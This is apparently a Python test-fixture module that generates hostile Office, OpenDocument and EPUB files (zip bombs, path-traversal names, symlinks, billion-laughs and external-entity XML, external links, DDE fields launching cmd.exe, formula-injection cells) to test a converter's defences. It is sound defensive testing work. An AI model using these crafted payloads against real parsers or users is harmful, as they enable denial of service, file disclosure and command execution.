"""Hostile Office files: zip bombs, lying archives, slipping names, XML that expands or reaches out, endless sheets."""

from __future__ import annotations

import functools
import struct
from collections.abc import Iterator
from dataclasses import replace

from .case import OUT_OF_MEMORY, Bait, Poison, of, read, refused
from .good import sheet, slides, word
from .zips import SYMLINK, Part, altered, archive, bomb, part, parts_of

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
X = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
R = f'xmlns:r="{RELATIONS}"'
WORD, SHEET, STRINGS, SLIDE = (
    "word/document.xml",
    "xl/worksheets/sheet1.xml",
    "xl/sharedStrings.xml",
    "ppt/slides/slide1.xml",
)
KEPT = "The heron stays."

good_word, good_sheet, good_slides = (
    functools.lru_cache(lambda make=make: make(KEPT)) for make in (word, sheet, slides)
)


def body(inner: str, doctype: str = "") -> bytes:
    """A Word document's main part."""
    return f'<?xml version="1.0"?>{doctype}<w:document {W} {R}><w:body>{inner}</w:body></w:document>'.encode()


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def rows(inner: str, dimension: str = "A1", doctype: str = "") -> bytes:
    """A worksheet."""
    head = f'<?xml version="1.0"?>{doctype}<worksheet {X}><dimension ref="{dimension}"/>'
    return f"{head}<sheetData>{inner}</sheetData></worksheet>".encode()


def cell(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def laughs(fold: int = 10, depth: int = 10) -> str:
    """A document type whose entity `&a9;` is ten thousand million laughs."""
    steps = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * fold}">' for i in range(1, depth))
    return f'<!DOCTYPE x [<!ENTITY a0 "ha">{steps}]>'


def quadratic() -> str:
    return f'<!DOCTYPE x [<!ENTITY big "{"ha" * 50_000}">]>'


def external(bait: Bait) -> str:
    return (
        f'<!DOCTYPE x [<!ENTITY f SYSTEM "{bait.file_url}"><!ENTITY h SYSTEM "{bait.http_url}">'
        f'<!ENTITY % p SYSTEM "{bait.http_url}"> %p;]>'
    )


def text_part(kind: str, inner: str, doctype: str) -> dict[str, bytes]:
    """The part that holds the text of a Word file, workbook or slide show, saying `inner`."""
    if kind == "docx":
        return {WORD: body(paragraph(inner), doctype)}
    if kind == "xlsx":
        return {SHEET: rows(f'<row r="1">{cell("A1", inner)}</row>', doctype=doctype)}
    slide = parts_of(good_slides())[SLIDE].decode().replace(KEPT, inner)
    return {SLIDE: slide.replace("?>", "?>" + doctype, 1).encode()}


def xml(kind: str, inner: str, doctype: str) -> bytes:
    return altered(
        {"docx": good_word, "xlsx": good_sheet, "pptx": good_slides}[kind](), text_part(kind, inner, doctype)
    )


def opendocument(inner: str, doctype: str) -> bytes:
    content = (
        f'<?xml version="1.0"?>{doctype}<office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
        f"<office:body><office:text><text:p>{inner}</text:p></office:text></office:body></office:document-content>"
    )
    kind = b"application/vnd.oasis.opendocument.text"
    return archive([part("mimetype", kind), part("content.xml", content.encode())])


def book(inner: str, doctype: str) -> bytes:
    """An EPUB."""
    files = {
        "mimetype": b"application/epub+zip",
        "META-INF/container.xml": b'<?xml version="1.0"?><container version="1.0" '
        b'xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
        b'<rootfile full-path="a.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
        "a.opf": b'<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata/>'
        b'<manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/></manifest>'
        b'<spine><itemref idref="a"/></spine></package>',
        "a.xhtml": f'<?xml version="1.0"?>{doctype}<html xmlns="http://www.w3.org/1999/xhtml"><body><p>{inner}</p>'
        "</body></html>".encode(),
    }
    return archive([part(name, content) for name, content in files.items()])


def reaching(kind: str, source: str, relation: str, bait: Bait) -> bytes:
    """A good file, one of whose parts has relations to things outside of it."""
    folder, _, file = source.rpartition("/")
    name = f"{folder}/_rels/{file}.xml.rels"
    base = {"docx": good_word, "xlsx": good_sheet, "pptx": good_slides}[kind]()
    relations = parts_of(base)[name].decode()
    new = "".join(
        f'<Relationship Id="p{i}" Type="{RELATIONS}/{relation}" Target="{call}" TargetMode="External"/>'
        for i, call in enumerate((*bait.calls(), f"\\\\{bait.address}\\share\\x"))
    )
    return altered(base, {name: relations.replace("</Relationships>", new + "</Relationships>").encode()})


def linked_picture(bait: Bait) -> bytes:
    data = reaching("docx", "word/document", "image", bait)
    blip = (
        '<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="p0"/><w:altChunk r:id="p3"/>'
    )
    return altered(data, {WORD: body(paragraph(KEPT) + f"<w:p><w:r><w:drawing>{blip}</w:drawing></w:r></w:p>")})


def slipping() -> bytes:
    names = (
        *(
            "../../outside/slipped",
            "../../../../../../../../tmp/slipped",
            "/tmp/slipped",
            "C:\\slipped",
            "..\\..\\slipped",
        ),
        *("word/../../../slipped", "word/media/\u202egnp.exe", "word/media/" + "n" * 60_000, "//host/share/slipped"),
    )
    return altered(good_word(), [part(name, b"slipped") for name in names])


def symlinks(bait: Bait) -> bytes:
    target = str(bait.canary).encode()
    return altered(good_word(), [part(f"word/{n}", target, mode=SYMLINK) for n in ("link", "media/image1.png")])


def symlink_for_text(bait: Bait) -> bytes:
    return altered(good_word(), [part(WORD, str(bait.canary).encode(), mode=SYMLINK)])


def text_twice() -> bytes:
    """Two parts of one name: which one counts, readers of zip files disagree on."""
    parts = [part(name, content) for name, content in parts_of(good_word()).items()]
    return archive([*parts, part(WORD, body(paragraph("second")))])


def overlapping(parts: int) -> bytes:
    one = bomb("word/0.xml", b"", b"ha", 10, b"")
    return archive([replace(one, name=f"word/{number}.xml") for number in range(parts)], overlapping=True)


def many_parts(count: int) -> bytes:
    return archive([Part(f"word/{number}", b"\x03\0", 0, 0) for number in range(count)])


def fields(bait: Bait) -> bytes:
    """Fields that include a file, load a picture and start a program."""
    orders = (f"INCLUDETEXT {bait.canary}", f"INCLUDEPICTURE {bait.http_url}", "DDEAUTO c:\\\\system32\\\\cmd.exe")
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    inner = "".join(f"<w:p>{begin}<w:r><w:instrText>{order}</w:instrText></w:r>{end}</w:p>" for order in orders)
    return altered(good_word(), {WORD: body(paragraph(KEPT) + inner)})


def macro() -> bytes:
    program = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Shell cmd.exe" * 99
    return altered(good_word(), {"word/vbaProject.bin": program})


def deep_tables() -> bytes:
    inner = "<w:tbl><w:tr><w:tc>" * 20_000 + paragraph("x") + "</w:tc></w:tr></w:tbl>" * 20_000
    return altered(good_word(), {WORD: body(inner)})


def deep_shapes() -> bytes:
    """Groups in groups: the converter's stack ends before they do."""
    groups = b"<p:grpSp>" * 50_000 + b"</p:grpSp>" * 50_000
    slide = parts_of(good_slides())[SLIDE].replace(b"</p:spTree>", groups + b"</p:spTree>")
    return altered(good_slides(), {SLIDE: slide})


def two_cells(second: str | None, dimension: str) -> bytes:
    """A sheet that claims to be huge, with a first cell and perhaps a last one."""
    inner = f'<row r="1">{cell("A1", KEPT)}</row>'
    if second:
        inner += f'<row r="1048576">{cell(second, "end")}</row>'
    return altered(good_sheet(), {SHEET: rows(inner, dimension)})


def nested(levels: int) -> bytes:
    data = good_word()
    for _ in range(levels):
        data = altered(good_word(), {"word/embeddings/oleObject1.docx": data})
    return data


def shared_strings(each: int, times: int) -> bytes:
    """A workbook of `times` cells that all show one string of `each` characters."""
    strings = f'<?xml version="1.0"?><sst {X} uniqueCount="1"><si><t>{"ha " * (each // 3)}</t></si></sst>'
    cells = "".join(f'<row r="{i}"><c r="A{i}" t="s"><v>0</v></c></row>' for i in range(1, times + 1))
    base, relations, types = good_sheet(), "xl/_rels/workbook.xml.rels", "[Content_Types].xml"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    named = f'<Override PartName="/{STRINGS}" ContentType="{kind}"/></Types>'
    related = f'<Relationship Id="rs" Type="{RELATIONS}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    changed = {STRINGS: strings.encode(), SHEET: rows(cells, f"A1:A{times}")}
    for name, end, new in ((types, "</Types>", named), (relations, "</Relationships>", related)):
        good = parts_of(base)[name].decode()
        if "sharedStrings" not in good:
            changed[name] = good.replace(end, new).encode()
    return altered(base, changed)


def looping_sectors() -> bytes:
    """An old Word file whose table of sectors leads in a circle."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH6x", 0x3E, 3, 0xFFFE, 9, 6)
    head += struct.pack("<IIIIIIIIIII", 0, 1, 1, 0, 4096, 2, 1, 0xFFFFFFFE, 0, 0, 0)[:40].ljust(36, b"\0")
    head = head.ljust(76, b"\0") + struct.pack("<I", 0) + b"\xff" * 432
    table = struct.pack("<128I", 0xFFFFFFFD, 1, *([2] * 126))
    name = "WordDocument".encode("utf-16-le")
    entry = (
        name.ljust(64, b"\0")
        + struct.pack("<HBBIII", len(name) + 2, 5, 1, 0, 0, 0)
        + b"\0" * 36
        + struct.pack("<IQ", 2, 2**40)
    )
    return head[:512] + table + (entry.ljust(128, b"\0") * 4) + b"\0" * 2048


def filled(name: str, megabytes: int, declared: int | None = None) -> bytes:
    """A Word file whose text is `megabytes` of spaces, or a workbook or slide show likewise."""
    if name.endswith("docx"):
        entry, base = (
            bomb(WORD, body(paragraph("@")).split(b"@")[0], b"ha ", megabytes, body(paragraph("@")).split(b"@")[1]),
            good_word(),
        )
    elif name.endswith("xlsx"):
        begin, end = rows(f'<row r="1">{cell("A1", "@")}</row>').split(b"@")
        entry, base = bomb(SHEET, begin, b"ha ", megabytes, end), good_sheet()
    else:
        begin, end = text_part("pptx", "@@", "")[SLIDE].split(b"@@", 1)
        entry, base = bomb(SLIDE, begin, b"ha ", megabytes, end), good_slides()
    if declared is not None:
        entry = Part(entry.name, entry.packed, declared, entry.crc)
    return altered(base, [entry])


def deep(tag: str, levels: int) -> bytes:
    return altered(good_word(), {WORD: body(f"<{tag}>" * levels + paragraph("x") + f"</{tag}>" * levels)})


FORMULAS = (
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(&quot;http://x.org/&quot;;&quot;click&quot;)",
    "@SUM(1+1)*cmd",
    "-2+3+cmd",
    "+1",
)


def formulas() -> bytes:
    cells = "".join(f'<row r="{i}">{cell(f"A{i}", text)}</row>' for i, text in enumerate(FORMULAS, start=2))
    return altered(good_sheet(), {SHEET: rows(f'<row r="1">{cell("A1", "Note")}</row>{cells}', "A1:A6")})


DOCTYPE = "it declares a document type, which Office files must not"
UNDERSTATED = "a part of it unpacks to more than it declares, as in a zip bomb"
DEEP = "refused for safety: a part of it is nested deeper than 400 elements"
RATIO = r"refused for safety: Potential ZIP bomb detected: compressed \d+B -> uncompressed \d+B \(ratio: [\d.]+:1\)"
TOO_LARGE = r"refused for safety: File 'word/document.xml' uncompressed size \d+ bytes exceeds limit of \d+ bytes"


def xml_bombs() -> Iterator[Poison]:
    """The same three tricks in each kind of file."""
    for kind in ("docx", "xlsx", "pptx"):
        yield refused(f"laughs.{kind}", lambda _, k=kind: xml(k, "&a9;", laughs()), DOCTYPE)
        yield refused(f"quadratic.{kind}", lambda _, k=kind: xml(k, "&big;" * 20_000, quadratic()), DOCTYPE)
        yield refused(
            f"external-entity.{kind}", lambda b, k=kind: xml(k, f"{KEPT} &f; &h;", external(b)), DOCTYPE, reaches=True
        )


PACK: list[Poison] = [
    refused("ratio.docx", lambda _: filled("docx", 150), TOO_LARGE),
    refused("ratio.xlsx", lambda _: filled("xlsx", 150), RATIO),
    refused("ratio.pptx", lambda _: filled("pptx", 150), RATIO),
    refused("size-understated.docx", lambda _: filled("docx", 400, 2_000), UNDERSTATED),
    refused("size-understated.pptx", lambda _: filled("pptx", 400, 2_000), UNDERSTATED),
    refused("size-understated.xlsx", lambda _: filled("xlsx", 400, 2_000), UNDERSTATED),
    refused(
        "size-overstated.xlsx", lambda _: filled("xlsx", 0, 4_294_000_000), "it unpacks to 4294 MB, more than 1000 MB"
    ),
    refused("size-overstated.docx", lambda _: filled("docx", 0, 900_000_000), TOO_LARGE),
    refused("overlapping-many.docx", lambda _: overlapping(250), "it unpacks to 2621 MB, more than 1000 MB"),
    refused("overlapping-few.docx", lambda _: overlapping(50), "its parts overlap, as they do in a zip bomb"),
    refused("many-parts.docx", lambda _: many_parts(12_000), "it has 12000 parts, more than 10000"),
    read("zip-in-zip.docx", lambda _: nested(12), KEPT),
    refused("nested.zip", lambda _: archive([part("a.zip", nested(2))]), "unsupported type: a zip archive; .*"),
    read("slip.docx", lambda _: slipping(), KEPT, "slipped"),
    read("symlink-parts.docx", symlinks, KEPT, reaches=True),
    refused("symlink-text.docx", symlink_for_text, "damaged: a part of it is no well-formed XML", reaches=True),
    read("text-twice.docx", lambda _: text_twice(), "second"),
    *xml_bombs(),
    refused("laughs.odt", lambda _: opendocument("&a9;", laughs()), "damaged or unreadable: .*XML with DTD detected"),
    refused(
        "external-entity.odt",
        lambda bait: opendocument(f"{KEPT} &f; &h;", external(bait)),
        "damaged or unreadable: .*XML with DTD detected",
        reaches=True,
    ),
    read("laughs.epub", lambda _: book(f"{KEPT} &a9;", laughs()), KEPT),
    read("external-entity.epub", lambda bait: book(f"{KEPT} &f; &h;", external(bait)), KEPT, reaches=True),
    read("linked-picture.docx", linked_picture, KEPT, reaches=True),
    read("template.docx", lambda bait: reaching("docx", "word/document", "attachedTemplate", bait), KEPT, reaches=True),
    read("linked-book.xlsx", lambda bait: reaching("xlsx", "xl/workbook", "externalLink", bait), KEPT, reaches=True),
    read("linked-sound.pptx", lambda bait: reaching("pptx", "ppt/slides/slide1", "audio", bait), KEPT, reaches=True),
    read("fields.docx", fields, KEPT, "cmd.exe", reaches=True),
    read("macro.docm", lambda _: macro(), KEPT, "cmd.exe"),
    refused("deep-tables.docx", lambda _: deep_tables(), DEEP),
    refused("deep-boxes.docx", lambda _: deep("w:sdt", 100_000), DEEP),
    refused("deep-shapes.pptx", lambda _: deep_shapes(), DEEP),  # xberg's own reader would crash on it
    read("a-million-rows.xlsx", lambda _: two_cells(None, "A1:XFD1048576"), KEPT),
    read("last-cell.xlsx", lambda _: two_cells("XFD1048576", "A1:XFD1048576"), "end"),
    refused(
        "last-row.xlsx",
        lambda _: two_cells("A1048576", "A1:A1048576"),
        "damaged or unreadable: Sheet 'Sheet' declared 1048576 rows but only 2 cells contain data; .*",
    ),
    refused("one-string-ten-thousand-cells.xlsx", lambda _: shared_strings(1_000_000, 10_000), OUT_OF_MEMORY),
    read("formulas.xlsx", lambda _: formulas(), "Note: =cmd|' /C calc'!A0"),
    refused("sectors-in-a-circle.doc", lambda _: looping_sectors(), "damaged or unreadable: .*Malformed FAT.*"),
    read("deep.rtf", of(b"{\\rtf1 " + b"{" * 100_000 + b"The heron stays." + b"}" * 100_001), KEPT),
    read("huge-picture.rtf", of(b"{\\rtf1 The heron stays. {\\pict\\bin2147483647 x}}"), KEPT),
]
